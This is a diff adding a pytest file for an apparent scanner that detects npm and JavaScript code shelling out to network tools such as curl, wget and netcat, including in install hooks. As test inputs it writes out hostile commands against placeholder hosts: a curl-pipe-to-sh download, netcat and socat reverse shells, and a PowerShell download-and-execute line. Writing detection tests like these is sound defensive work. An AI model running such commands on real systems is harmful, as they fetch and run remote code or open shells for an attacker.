@@ -1,0 +1,167 @@
+"""JavaScript code that shells out to network tools (child_process) or runs worker code (issue #5).
+
+Each fixture under tests/fixtures/shellout/js is one form; the tests assert
+the exact api, line, column, capability, note and destinations, and that
+the negatives (`exec('ls')`, a local `exec`, 'curl' in a log line, a command
+that is not constant) give no network finding.  The shared command reader
+(catalog/commands.py) and the one tool table are tested here too.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from egress.analyzers.javascript import JavaScriptAnalyzer
+from egress.catalog import load_catalog
+from egress.catalog.commands import read_argv, read_line
+from egress.catalog.shell_tools import load_shell_tools, parse_shell_tools
+from egress.install_scripts import NETWORK_TOOLS
+from egress.model import Ecosystem, FindingKind, SourceFile
+from egress.prefilter import PreFilter
+from egress.session import ScanSettings, scan_targets
+
+FIXTURES = Path(__file__).resolve().parent / "fixtures" / "shellout"
+JS = FIXTURES / "js"
+
+
+def _analyse(name: str):
+    result = JavaScriptAnalyzer().analyze(SourceFile(name, (JS / name).read_bytes()))
+    assert result.error is None
+    return result.findings
+
+
+def _rows(name: str) -> list[tuple]:
+    return [(f.kind.value, f.api, f.file, f.line, f.column, f.capability.value, f.note,
+             tuple(d.text for d in f.destinations)) for f in _analyse(name)]
+
+
+POSITIVES = {
+    "exec_curl.js": [("network", "child_process.exec → curl", "exec_curl.js", 5, 3, "request", "runs curl",
+                      ("https://x.example/i.sh",))],
+    "destructured_alias.js": [("network", "child_process.execSync → wget", "destructured_alias.js", 3, 1, "request",
+                               "runs wget", ("http://203.0.113.7/p",))],
+    "spawn_argv.js": [("network", "child_process.spawn → curl", "spawn_argv.js", 5, 10, "request", "runs curl",
+                       ("https://collect.example/c",))],
+    "execfile_sync.js": [
+        ("network", "child_process.execFile → wget", "execfile_sync.js", 3, 1, "request", "runs wget",
+         ("http://files.example/a.tgz",)),
+        ("network", "child_process.execFileSync → netcat", "execfile_sync.js", 4, 1, "connect", "runs netcat",
+         ("203.0.113.9:4444",)),
+        ("network", "child_process.spawnSync → ssh", "execfile_sync.js", 5, 1, "connect", "runs ssh",
+         ("build.example",)),
+    ],
+    "folded.js": [("network", "child_process.execSync → curl", "folded.js", 3, 1, "request", "runs curl",
+                   ("http://fold.example/x",))],
+    "esm.mjs": [
+        ("network", "child_process.exec → curl", "esm.mjs", 4, 1, "request", "runs curl",
+         ("https://esm.example/<dynamic>",)),
+        ("network", "child_process.spawn → wget", "esm.mjs", 5, 1, "request", "runs wget",
+         ("https://shell.example/a",)),
+    ],
+}
+
+
+@pytest.mark.parametrize("name", sorted(POSITIVES))
+def test_each_form_is_a_network_finding_at_the_call(name: str) -> None:
+    assert _rows(name) == POSITIVES[name]
+
+
+def test_the_finding_carries_module_snippet_trace_and_confidence() -> None:
+    [found] = _analyse("exec_curl.js")
+    assert (found.module, found.snippet, found.confidence.value, found.in_function) == (
+        "child_process", "cp.exec('curl -s https://x.example/i.sh | sh');", "high", True)
+    assert [(s.line, s.column, s.note) for s in found.trace] == [(2, 12, "require 'child_process'")]
+
+
+def test_destinations_are_classified_like_any_request() -> None:
+    [alias] = _analyse("destructured_alias.js")
+    assert [(d.text, d.known, d.host, d.classes) for d in alias.destinations] == [
+        ("http://203.0.113.7/p", "full", "203.0.113.7", ("ip-literal", "public"))]
+    exec_found, _ = _analyse("esm.mjs")
+    assert [(d.known, d.host) for d in exec_found.destinations] == [("partial", "esm.example")]
+
+
+def test_inline_node_code_is_analysed_as_a_payload() -> None:
+    assert [(f.kind, f.api, f.line, f.column) for f in _analyse("inline_node.js")] == [
+        (FindingKind.NETWORK, "https.get", 2, 1)]
+
+
+def test_a_worker_with_eval_runs_its_code_and_a_file_worker_does_not() -> None:
+    rows = [(f.kind, f.api, f.line, f.column, f.confidence.value) for f in _analyse("worker_eval.js")]
+    assert rows == [
+        (FindingKind.NETWORK, "fetch", 2, 1, "high"),                              # constant code: a payload
+        (FindingKind.DYNAMIC_CODE, "new worker_threads.Worker", 3, 1, "medium"),  # code from argv
+    ]
+
+
+@pytest.mark.parametrize("name", ["neg_ls.js", "neg_local_exec.js", "neg_log.js", "neg_dynamic.js"])
+def test_negatives_give_no_finding(name: str) -> None:
+    assert _analyse(name) == ()
+
+
+@pytest.mark.parametrize("name", sorted([*POSITIVES, "inline_node.js", "worker_eval.js"]))
+def test_the_prefilter_keeps_every_positive(name: str) -> None:
+    prefilter = PreFilter(load_catalog(Ecosystem.NPM), load_catalog(Ecosystem.PYPI))
+    assert prefilter.wants(name, (JS / name).read_bytes())
+
+
+def test_through_the_pipeline_an_install_hook_shelling_out_is_install_time_network(tmp_path: Path) -> None:
+    result = scan_targets((str(FIXTURES / "npm-hook"), str(FIXTURES / "npm-runtime")),
+                          ScanSettings(cache_dir=str(tmp_path), jobs=1))
+    hook, runtime = result.packages
+    assert (hook.name, hook.verdict.value, runtime.name, runtime.verdict.value) == (
+        "shell-hook", "network", "shell-runtime", "network")
+    assert sorted((a.type, a.severity.value, a.finding.file, a.finding.line, a.finding.timing.value, a.api)
+                  for a in hook.alerts) == [
+        ("installScripts", "high", "package.json", 5, "install", "scripts.postinstall"),
+        ("installTimeNetwork", "high", "install.js", 3, "install", "child_process.execSync → curl"),
+        ("networkAccess", "medium", "install.js", 3, "install", "child_process.execSync → curl"),
+        ("suspiciousDestination", "high", "install.js", 3, "install", "child_process.execSync → curl"),
+    ]
+    assert [(a.type, a.severity.value, a.finding.file, a.finding.line, a.finding.column, a.api)
+            for a in runtime.alerts] == [
+        ("networkAccess", "medium", "index.js", 4, 10, "child_process.spawn → curl")]   # quiet.js: none
+
+
+# -- the one tool table and the command reader ----------------------------------------------------
+
+def test_install_hooks_and_analyzers_share_one_table() -> None:
+    table = load_shell_tools()
+    assert NETWORK_TOOLS == table.labels_by_word()
+    assert (NETWORK_TOOLS["nc"], NETWORK_TOOLS["iwr"], NETWORK_TOOLS["curl"]) == (
+        "netcat", "powershell Invoke-WebRequest", "curl")
+
+
+def test_a_bad_table_entry_is_refused_at_load() -> None:
+    with pytest.raises(ValueError, match="tool.x"):
+        parse_shell_tools('[tool.x]\nwords = ["x"]\ncapability = "listen"\naddress = "url"\n')
+    with pytest.raises(ValueError, match="launcher.m.f"):
+        parse_shell_tools('[launcher.m]\necosystem = "npm"\nsignal = "module"\n[launcher.m.functions]\nf = {}\n')
+
+
+@pytest.mark.parametrize(("line", "expected"), [
+    ("curl -s https://x.example/i.sh | sh", [("curl", "", ("https://x.example/i.sh",))]),
+    ("FOO=1 sudo /usr/bin/wget -q http://203.0.113.9/a", [("wget", "", ("http://203.0.113.9/a",))]),
+    ("bash -c 'nc -e /bin/sh 203.0.113.5 4444'", [("netcat", "bash -c", ("203.0.113.5:4444",))]),
+    ("cmd /c curl.exe http://w.example/", [("curl", "cmd /c", ("http://w.example/",))]),
+    ("powershell -c \"(New-Object Net.WebClient).DownloadString('http://p.example/x')|iex\"",
+     [("powershell DownloadString", "powershell", ("http://p.example/x",))]),
+    ("scp f.tgz ops@host.example:/tmp", [("scp", "", ("host.example",))]),
+    ("socat TCP:203.0.113.4:9 EXEC:sh", [("socat", "", ("203.0.113.4:9",))]),
+    ("curl <dynamic>", [("curl", "", ("<dynamic>",))]),
+    ("echo curl https://x.example", []),
+    ("cu<dynamic> https://x.example", []),
+    ("iwr http://x.example", []),                     # a powershell alias outside powershell
+])
+def test_command_lines(line: str, expected: list) -> None:
+    reading = read_line(load_shell_tools(), line)
+    assert [(u.tool.label, u.via, tuple(d.text for d in u.destinations)) for u in reading.tools] == expected
+
+
+def test_inline_code_of_an_interpreter_is_handed_back_only_when_constant() -> None:
+    table = load_shell_tools()
+    assert read_argv(table, ["node", "-e", "fetch(1)"]).inline == [("javascript", "fetch(1)", "node -e")]
+    assert read_argv(table, ["node", "-e", "<dynamic>"]).inline == []
+    assert read_argv(table, ["node", "app.js", "-e", "x"]).inline == []
